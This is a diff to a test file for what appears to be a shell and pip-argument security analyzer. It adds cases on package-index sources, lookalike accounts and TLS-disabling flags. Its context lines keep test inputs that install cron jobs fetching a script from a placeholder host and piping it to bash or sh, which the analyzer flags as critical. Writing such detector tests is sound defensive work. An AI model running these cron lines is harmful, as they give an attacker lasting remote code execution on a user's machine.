@@ -3,6 +3,7 @@
 import { analyzeShell, newShellState } from '../../../src/analyze/shell/analyze.js';
 import { containerRunOf, judgeContainer } from '../../../src/analyze/shell/containers.js';
 import { judgeRunner } from '../../../src/analyze/shell/runners.js';
+import { judgePipArgs } from '../../../src/analyze/requirements.js';
 import { tokenizeShell } from '../../../src/analyze/shell/tokenize.js';
 
 const kinds = (src: string, dialect: 'posix' | 'fish' = 'posix'): string[] =>
@@ -111,4 +112,16 @@ test('a ( … ) group closes after a quoted word: what it pipes out is read with
   expect(kinds('(crontab -l; echo "@reboot wget -qO- https://x.invalid/c | bash") | crontab -')).toEqual(['pipe-to-shell:critical:1']);
   expect(kinds('crontab - <<EOF\nMAILTO=""\n# nightly\n*/5 * * * * curl -s https://x.invalid/c | sh\nEOF\n')).toEqual(['pipe-to-shell:critical:1']);
   expect(kinds('(crontab -l; echo "0 3 * * * find /tmp/x -mtime +7 -delete") | crontab -')).toEqual([]);
+});
+
+test('a package index on the publisher\'s own GitHub Pages (<its account>.github.io) is its own source', () => {
+  const j = (args: string[], opts = {}): string[] => judgePipArgs(args, opts).map((r) => `${r.kind}:${r.severity}`);
+  const index = ['llama-cpp-python', '--extra-index-url', 'https://abetlen.github.io/llama-cpp-python/whl/cu124'];
+  expect(j(index, { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['own-source:low']);
+  // twins: someone else's Pages site, a lookalike account, and no known own account
+  expect(j(index, { ownGitOrgs: ['ggerganov'], vouched: true })).toEqual(['index-url:medium']);
+  expect(j(['x', '--extra-index-url', 'https://abet1en.github.io/whl'], { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['index-url:medium']);
+  expect(j(index)).toEqual(['index-url:high']);
+  // turning TLS off for it is still not a source choice
+  expect(j(['x', '--trusted-host', 'abetlen.github.io'], { ownGitOrgs: ['abetlen'], vouched: true })).toEqual(['index-url:high']);
 });
